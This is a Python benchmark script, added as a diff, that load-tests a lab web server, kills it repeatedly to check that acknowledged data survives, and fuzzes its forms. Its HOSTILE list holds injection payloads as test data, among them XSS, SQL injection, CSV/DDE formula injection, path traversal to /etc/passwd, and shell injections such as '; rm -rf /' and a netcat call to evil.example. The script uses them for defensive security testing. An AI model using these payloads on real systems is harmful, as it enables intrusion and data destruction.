@@ -1,0 +1,366 @@
+"""The page under load, under kills and under hostile names: what `qgt serve` promises, measured on a real server.
+
+    python benchmarks/server.py --users 20 --seconds 600 --kills 100 --output results/server.json
+
+Users plan nothing: each has a run of 96 samples, and again and again enters a simulated plate, waits for its calls,
+checks them against the truth and fetches the report. A kill is a SIGKILL at a random moment while several users enter
+counts; afterwards every count that was acknowledged must be there.
+"""
+
+import argparse
+import csv
+import io
+import json
+import random
+import re
+import signal
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from contextlib import ExitStack
+from dataclasses import dataclass, field
+from html.parser import HTMLParser
+from pathlib import Path
+
+import httpx
+import torch
+
+from qgt.files.atomic import write_text
+from qgt.files.provenance import provenance
+from qgt.lab.planning import Candidate, Plan, Question
+from qgt.lab.samples import Samples
+from qgt.lab.scouting import Scout
+from qgt.model.noise import Noiseless
+from qgt.web.examples import EXAMPLES, example_plan
+from qgt.web.house import House
+from qgt.web.planning import add_run
+from qgt.web.serving import in_background
+from qgt.web.settings import Settings
+from qgt.web.store import Store
+
+HOSTILE = (
+    *("<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>"),
+    *("</title><svg onload=x>", "<!--", "]]>", "&lt;b&gt;", "<style>*{display:none}</style>", "javascript:alert(1)"),
+    *("<iframe src=//evil.example>", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "'=1"),
+    *('=HYPERLINK("http://evil.example")', "{{ 7*7 }}", "{% for x in y %}", "${7*7}", "#{7*7}", "%s%s%n", "%00"),
+    *("{0.__class__}", "'; DROP TABLE runs;--", '" OR 1=1 --', "1; DELETE FROM trail", "\\'; --"),
+    *("' UNION SELECT value FROM keys --", "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\CON"),
+    *("file:///etc/passwd", "a/../../b", "~root", "; rm -rf /", "$(reboot)", "`id`", "| nc evil.example 1", "&& true"),
+    *("\r\nSet-Cookie: a=b", "a\r\n\r\nb", "\x00", "\x1b[2J", "\u202egnp.exe", "\u200b", "\ufeff", "a" * 5000),
+    *("\U0001f4a9", "e\u0301", "\ufdfa", "NaN", "1e999", "-0", "0x10", "1_000", "\uff11", "\u2028", "</textarea><b>"),
+)
+FORMULA = re.compile(r"[=+@\t\r]|-(?!\d)")
+FORBIDDEN = {"img", "iframe", "object", "embed", "base", "frame", "math"}
+
+
+class Markup(HTMLParser):
+    """The elements of a page that could do something, as a browser would find them."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        """Look at one element."""
+        given = dict(attributes)
+        own = tag == "script" and given.get("src") == "/static/counts.js"
+        if tag in FORBIDDEN or (tag == "script" and not own):
+            self.found.append(tag)
+        self.found += [name for name in given if name.startswith("on") or name == "style"]
+        links = [given.get(name) or "" for name in ("href", "src", "action")]
+        self.found += [link for link in links if link.split(":")[0].lower() in ("javascript", "file", "http", "https")]
+
+
+@dataclass
+class Server:
+    """`qgt serve` as a process of its own."""
+
+    folder: Path
+    process: subprocess.Popen[str] = field(init=False)
+    address: str = field(init=False)
+
+    def __post_init__(self) -> None:
+        command = [sys.executable, "-m", "qgt", "serve", str(self.folder), "--port", "0"]
+        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True, bufsize=1)
+        assert self.process.stdout is not None
+        line = self.process.stdout.readline()
+        self.address = line.split()[-1]
+        for _ in range(500):
+            try:
+                httpx.get(self.address, timeout=5)
+                return
+            except httpx.HTTPError:
+                time.sleep(0.02)
+        raise RuntimeError(f"the server did not start: {line!r}")
+
+    def memory(self) -> float:
+        """Resident megabytes."""
+        text = Path(f"/proc/{self.process.pid}/status").read_text()
+        return int(re.search(r"VmRSS:\s+(\d+)", text)[1]) / 1024
+
+    def stop(self, how: signal.Signals = signal.SIGINT) -> None:
+        """End it, and wait until it has ended."""
+        self.process.send_signal(how)
+        self.process.wait(timeout=60)
+
+
+@dataclass
+class Tally:
+    """What all users saw."""
+
+    seconds: dict[str, list[float]] = field(default_factory=dict)
+    statuses: dict[int, int] = field(default_factory=dict)
+    faults: list[str] = field(default_factory=list)
+    lock: threading.Lock = field(default_factory=threading.Lock)
+
+    def add(self, kind: str, took: float, status: int) -> None:
+        """Count a request."""
+        with self.lock:
+            self.seconds.setdefault(kind, []).append(took)
+            self.statuses[status] = self.statuses.get(status, 0) + 1
+
+    def fault(self, words: str) -> None:
+        """Note what should not have happened."""
+        with self.lock:
+            self.faults.append(words)
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--users", type=int, default=20)
+    parser.add_argument("--seconds", type=float, default=30.0, help="of load; 0 leaves it out")
+    parser.add_argument("--think", type=float, default=5.0, help="mean seconds between a user's plates")
+    parser.add_argument("--kills", type=int, default=3)
+    parser.add_argument("--hostile", type=int, default=len(HOSTILE), help="names and cells to try")
+    parser.add_argument("--output", type=Path, default=None)
+    given = parser.parse_args()
+    found: dict[str, object] = {}
+    if given.seconds:
+        found["load"] = load(given.users, given.seconds, given.think)
+    if given.kills:
+        found["kills"] = kills(given.kills)
+    if given.hostile:
+        found["hostile"] = hostile(given.hostile)
+    found["made_on"] = provenance("cpu")
+    text = json.dumps(found, indent=1) + "\n"
+    print(text)
+    if given.output is not None:
+        write_text(given.output, text)
+
+
+# --- load -----------------------------------------------------------------------------------------------------------
+
+
+def load(users: int, seconds: float, think: float) -> dict[str, object]:
+    """Users at work for a while: times, statuses, wrong calls, and how memory grows after the first third."""
+    with tempfile.TemporaryDirectory() as name:
+        folder = Path(name)
+        made = example_plan(EXAMPLES["clear"])
+        house = House.open(Settings(folder))
+        runs = [add_run(house, f"User {n}", made, 10.0) for n in range(users)]
+        server = Server(folder)
+        tally, end = Tally(), time.monotonic() + seconds
+        _one_plate(
+            server.address, runs[0], house.secret.form, made, random.Random(-1), Tally()
+        )  # the first one measures
+        threads = [
+            threading.Thread(target=_user, args=(server.address, run, house.secret.form, made, n, think, end, tally))
+            for n, run in enumerate(runs)
+        ]
+        for thread in threads:
+            thread.start()
+        time.sleep(seconds / 3)
+        before = server.memory()
+        for thread in threads:
+            thread.join()
+        after = server.memory()
+        server.stop()
+    return {
+        "users": users,
+        "seconds": seconds,
+        "plates": len(tally.seconds.get("calls", ())),
+        "requests": sum(tally.statuses.values()),
+        "server_errors": sum(n for status, n in tally.statuses.items() if status >= 500),
+        "refused_as_busy": tally.statuses.get(429, 0),
+        "statuses": {str(status): n for status, n in sorted(tally.statuses.items())},
+        "wrong": tally.faults[:20],
+        "p50_seconds": {kind: _quantile(times, 0.5) for kind, times in sorted(tally.seconds.items())},
+        "p99_seconds": {kind: _quantile(times, 0.99) for kind, times in sorted(tally.seconds.items())},
+        "memory_mb": [round(before, 1), round(after, 1)],
+        "memory_growth": round(after / before - 1, 4),
+    }
+
+
+def _user(address: str, run: str, word: str, made: Plan, seed: int, think: float, end: float, tally: Tally) -> None:
+    drawn = random.Random(seed)
+    while time.monotonic() < end:
+        time.sleep(drawn.uniform(0, 2 * think))
+        try:
+            _one_plate(address, run, word, made, drawn, tally)
+        except httpx.HTTPError as error:
+            tally.fault(f"{type(error).__name__}: {error}")
+
+
+def _one_plate(address: str, run: str, word: str, made: Plan, drawn: random.Random, tally: Tally) -> None:
+    """Enter a plate, wait for its calls, and compare them with the truth."""
+    names, matrix = made.problem.design.item_names, made.problem.design.matrix
+    truth = sorted(drawn.sample(range(len(names)), drawn.randint(0, 4)))
+    counts = matrix[:, truth].sum(1).tolist()
+    fields = {"word": word, "way": "typed", "plate-0": f"{drawn.random()}"}
+    fields |= {f"count-0-{n}": f"{count}" for n, count in enumerate(counts)}
+    with httpx.Client(base_url=address, timeout=120) as client:
+        for path in ("/", f"/runs/{run}", f"/runs/{run}/counts"):
+            _timed(tally, "pages", lambda path=path: client.get(path))
+        start = time.perf_counter()
+        answer = _timed(tally, "submit", lambda: client.post(f"/runs/{run}/counts", data=fields))
+        where = answer.headers.get("location", f"/runs/{run}")
+        answer = client.get(where, follow_redirects=True)
+        while "<progress" in answer.text or answer.status_code == 429:
+            time.sleep(0.05)
+            answer = client.get(where, follow_redirects=True)
+        tally.add("calls", time.perf_counter() - start, answer.status_code)
+        rows = list(
+            csv.DictReader(io.StringIO(_timed(tally, "download", lambda: client.get(f"{where}/calls.csv")).text))
+        )
+        called = [names.index(name) for name, call in rows[0].items() if call == "1"]
+        if called != truth and 'class="badge certain"' in answer.text:
+            tally.fault(f"{where} calls {called} certain, but the truth is {truth}")
+
+
+def _timed(tally: Tally, kind: str, ask) -> httpx.Response:  # type: ignore[no-untyped-def]
+    start = time.perf_counter()
+    answer: httpx.Response = ask()
+    tally.add(kind, time.perf_counter() - start, answer.status_code)
+    return answer
+
+
+def _quantile(values: list[float], share: float) -> float:
+    return round(float(torch.tensor(values, dtype=torch.float64).quantile(share)), 4)
+
+
+# --- kills ----------------------------------------------------------------------------------------------------------
+
+
+def kills(number: int) -> dict[str, object]:
+    """Kill the server while counts are entered; every acknowledged one must be there, whole, afterwards."""
+    acknowledged: list[tuple[str, int, float]] = []
+    lost = 0
+    with tempfile.TemporaryDirectory() as name:
+        folder = Path(name)
+        house = House.open(Settings(folder))
+        runs = [add_run(house, f"User {n}", example_plan(EXAMPLES["clear"]), 10.0) for n in range(4)]
+        pools = EXAMPLES["clear"].pools
+        for kill in range(number):
+            server = Server(folder)
+            sent: list[tuple[str, int, float]] = []
+            threads = [
+                threading.Thread(target=_enter, args=(server.address, run, house.secret.form, pools, kill, sent))
+                for run in runs
+            ]
+            for thread in threads:
+                thread.start()
+            time.sleep(random.Random(kill).uniform(0.05, 1.0))
+            server.stop(signal.SIGKILL)
+            for thread in threads:
+                thread.join()
+            acknowledged += sent
+            lost += _lost(folder, acknowledged)
+    return {"kills": number, "acknowledged": len(acknowledged), "lost": lost}
+
+
+def _enter(address: str, run: str, word: str, pools: int, kill: int, sent: list[tuple[str, int, float]]) -> None:
+    """Enter counts, each sheet unlike any other, until the server is gone."""
+    with httpx.Client(base_url=address, timeout=10) as client:
+        for number in range(10_000):
+            value = kill + number / 10_000
+            fields = {"word": word, "way": "typed", "plate-0": "1"} | {f"count-0-{n}": f"{value}" for n in range(pools)}
+            try:
+                answer = client.post(f"/runs/{run}/counts", data=fields)
+            except httpx.HTTPError:
+                return
+            if answer.status_code == 303:
+                sent.append((run, int(answer.headers["location"].rsplit("/", 1)[1]), value))
+
+
+def _lost(folder: Path, acknowledged: list[tuple[str, int, float]]) -> int:
+    store, kept = Store.open(folder), {}
+    for run in {run for run, _, _ in acknowledged}:
+        kept |= {(run, one.version): one.counts["values"][0][0] for one in store.submissions(run)}
+    return sum(kept.get((run, version)) != value for run, version, value in acknowledged)
+
+
+# --- hostile names and cells ----------------------------------------------------------------------------------------
+
+
+def hostile(number: int) -> dict[str, object]:
+    """Names and cells that would run, escape or break something, in every place where people write."""
+    faults: list[str] = []
+    tried = HOSTILE[:number]
+    with ExitStack() as stack:
+        folder = Path(stack.enter_context(tempfile.TemporaryDirectory()))
+        house = stack.enter_context(in_background(Settings(folder, port=0, calibrate=0.5)))
+        client = stack.enter_context(httpx.Client(base_url=house.settings.address, timeout=60))
+        for place, text in enumerate(tried):
+            _attack(client, house, text, place, faults)
+        if len(house.store.runs()) < len(tried) or client.get("/").status_code != 200:
+            faults.append("the store was harmed")
+    return {"tried": len(tried), "through": len(faults), "faults": faults[:20]}
+
+
+def _attack(client: httpx.Client, house: House, text: str, place: int, faults: list[str]) -> None:
+    """One hostile text as the name of a run, a sample, a plate, a note, a cell and a file."""
+    word = house.secret.form
+    plan = _plan_with(text)
+    run = add_run(house, text if text.isprintable() else "run", plan, 10.0)
+    pools = plan.problem.design.pool_names
+    counts = plan.problem.design.matrix[:, [0]].sum(1).tolist()
+    typed = {"way": "typed", "plate-0": text, "note": text, **{f"count-0-{n}": f"{c}" for n, c in enumerate(counts)}}
+    pasted = {
+        "way": "pasted",
+        "pasted": f"{text}\n" + "\n".join(f"{p}\t{c}" for p, c in zip(pools, counts, strict=True)),
+    }
+    cell = {
+        "way": "typed",
+        "plate-0": "cell",
+        **{f"count-0-{n}": f"{c}" for n, c in enumerate(counts)},
+        "count-0-0": text,
+    }
+    form = {"name": text, "samples": text, "names": f"{text}\nb", "fewest": "0", "most": text, "assay": text}
+    answers = [client.post(f"/runs/{run}/counts", data={"word": word, **fields}) for fields in (typed, pasted, cell)]
+    answers.append(client.post("/plan", data={"word": word, **form, "certainty": text, "volume": text}))
+    upload = {"file": (text.replace("\x00", "") or "x", text.encode("utf-8", "replace"))}
+    answers.append(client.post(f"/runs/{run}/counts", data={"word": word, "way": "uploaded"}, files=upload))
+    for path in ("/", f"/runs/{run}", f"/runs/{run}/counts?version=1", f"/runs/{run}/print", f"/runs/{run}/calls"):
+        answers.append(client.get(path, follow_redirects=True))
+    for path in ("sheets/pooling_sheet.html", "versions/1/report", "versions/1/report.csv", "versions/1/calls.csv"):
+        answers.append(client.get(f"/runs/{run}/{path}"))
+    for number, answer in enumerate(answers):
+        if answer.status_code >= 500:
+            faults.append(f"{place}: answer {number} is {answer.status_code}")
+        if "html" in answer.headers.get("content-type", ""):
+            page = Markup()
+            page.feed(answer.text)
+            faults += [f"{place}: answer {number} holds {one!r}" for one in page.found]
+        if "set-cookie" in answer.headers:
+            faults.append(f"{place}: answer {number} sets a cookie")
+        if answer.headers.get("content-type", "").startswith("text/csv"):
+            cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
+            faults += [f"{place}: cell {cell!r}" for cell in cells if FORMULA.match(cell)]
+
+
+def _plan_with(text: str) -> Plan:
+    """A small plan, with a sample of that name where the lab takes it."""
+    try:
+        samples = Samples.placed([text, *(f"S{n}" for n in range(11))])
+    except ValueError:  # refused, as it should be
+        samples = Samples.numbered(12)
+    question = Question(samples, (0.0, 2.0), Noiseless(), 0.9)
+    scout = Scout(samples, question.positives, question.assay, None, seed=0)
+    one = Candidate(scout.design(8, 4), 4, 50, 49, 0.0, 3.5)
+    return Plan(question, (one,), one, False, seed=0)
+
+
+if __name__ == "__main__":
+    main()
